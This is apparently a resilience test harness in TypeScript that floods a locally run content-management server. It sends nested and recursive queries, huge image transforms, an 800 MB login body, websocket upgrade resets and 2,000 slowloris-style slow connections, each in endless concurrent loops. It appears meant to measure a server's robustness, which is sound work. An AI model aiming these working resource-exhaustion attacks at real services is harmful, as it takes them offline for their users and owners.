import { Agent, request } from 'node:http'
import { connect } from 'node:net'
import { argv } from 'node:process'
import { Readable } from 'node:stream'
import { setTimeout as pause } from 'node:timers/promises'

/** What an attack needs to know of the site. */
export interface Target {
  url: string
  /** A picture of the lake, below `/images`. */
  image: string
}

const LAKE = '/v2025-02-19/data'
const agent = new Agent({ keepAlive: true })

/** Attacks by name. Each makes one attempt and returns when that is over; the number says which one it is. */
const ATTACKS: Record<string, { atOnce: number; attempt: (target: Target, count: number) => Promise<void> }> =
  {
    'query: counts in counts': {
      atOnce: 4,
      attempt: ({ url }) => query(url, 'count(*[count(*[count(*[count(*[_id!=^._id])>0])>0])>0])'),
    },
    'query: subqueries in subqueries': {
      atOnce: 4,
      attempt: ({ url }) =>
        query(url, '*[_id in *[_id in *[_id in *[_id in *[_id != "e"]._id]._id]._id]._id]._id'),
    },
    'query: everything in everything': {
      atOnce: 4,
      attempt: ({ url }) => query(url, '*{"a":*{"b":*{"c":*}}}'),
    },
    'query: 20,000 projections': {
      atOnce: 4,
      attempt: ({ url }) =>
        send(`${url}${LAKE}/query/production`, [JSON.stringify({ query: `*${'{a->}'.repeat(20_000)}` })]),
    },
    '10 picture transforms': {
      atOnce: 10,
      attempt: ({ url, image }, count) =>
        send(`${url}${image}?w=${8_000 + (count % 190)}&h=8192&fm=webp&fit=scale&q=97`),
    },
    'sign-in with 800 MB': {
      atOnce: 2,
      attempt: ({ url }) =>
        send(`${url}/v1/auth/login/token`, repeated(1_600, 'origin='.repeat(74_900)), {
          'content-type': 'application/x-www-form-urlencoded',
        }),
    },
    'upgrades, reset': {
      atOnce: 200,
      attempt: ({ url }, count) => {
        const protocol = ['', 'sec-websocket-protocol: vite-hmr\r\n'][count % 2] ?? ''
        const path = ['/mux', '/x', '/v1/socket/production', '/'][count % 4] ?? '/'
        const key = 'sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\nsec-websocket-version: 13\r\n'
        const head = `GET ${path} HTTP/1.1\r\nhost: localhost\r\nconnection: upgrade\r\nupgrade: websocket\r\n`
        return raw(url, `${head}${key}${protocol}\r\n`, 5, true)
      },
    },
    'HEAD of listeners': {
      atOnce: 100,
      attempt: ({ url }) =>
        raw(url, `HEAD ${LAKE}/listen/production?query=* HTTP/1.1\r\nhost: localhost\r\n\r\n`, 50, false),
    },
    '60 queries of 15 MB': {
      atOnce: 60,
      attempt: ({ url }, count) =>
        send(`${url}${LAKE}/query/production`, [
          JSON.stringify({ query: `*[_id == "${count}${'x'.repeat(15_000_000)}"]` }),
        ]),
    },
    'all pages published, again and again': {
      atOnce: 1,
      attempt: ({ url }, count) => {
        const set = { 'brand.descriptor': `Engine ${count}` }
        const mutations = [{ patch: { id: 'settings', set } }]
        return send(`${url}/v1/data/mutate/production`, [JSON.stringify({ mutations })])
      },
    },
    '2,000 slow senders': {
      atOnce: 2_000,
      attempt: ({ url }) => raw(url, 'POST /api/waitlist HTTP/1.1\r\nhost: localhost\r\nx-', 8_000, false),
    },
  }

/** In the order in which they are measured. */
export const ATTACK_NAMES = Object.keys(ATTACKS)

if (argv[2] !== undefined && argv[3] !== undefined) {
  const target = JSON.parse(argv[3]) as Target
  const { atOnce, attempt } = ATTACKS[argv[2]] ?? { atOnce: 0, attempt: () => Promise.resolve() }
  let count = 0
  await Promise.all(
    Array.from({ length: atOnce }, async () => {
      for (;;) {
        count += 1
        await attempt(target, count).catch(() => undefined)
        // An answer that comes at once would make this a measure of the attacker.
        await pause(1)
      }
    }),
  )
}

function query(url: string, text: string): Promise<void> {
  return send(`${url}${LAKE}/query/production?query=${encodeURIComponent(text)}`)
}

/** Sends a request, reads all of its answer, and ends with it or with the connection. */
async function send(
  url: string,
  body?: Iterable<string>,
  headers: Record<string, string> = {},
): Promise<void> {
  const sending = request(url, { method: body ? 'POST' : 'GET', agent, headers })
  const over = new Promise<void>((resolve) => {
    sending.on('error', () => resolve())
    sending.on('close', () => resolve())
    sending.on('response', (response) => response.resume())
  })
  Readable.from(body ?? []).pipe(sending)
  await over
}

/** Writes bytes on a connection of their own, and lets go of it after `ms`. */
async function raw(url: string, bytes: string, ms: number, reset: boolean): Promise<void> {
  const socket = connect(Number(new URL(url).port), '127.0.0.1')
  const closed = new Promise((resolve) => {
    socket.on('close', resolve)
  })
  socket.on('error', () => undefined)
  socket.resume()
  socket.write(bytes)
  await Promise.race([pause(ms), closed])
  if (reset) socket.resetAndDestroy()
  else socket.destroy()
  await closed
}

function* repeated(times: number, part: string): Generator<string> {
  for (let count = 0; count < times; count += 1) yield part
}
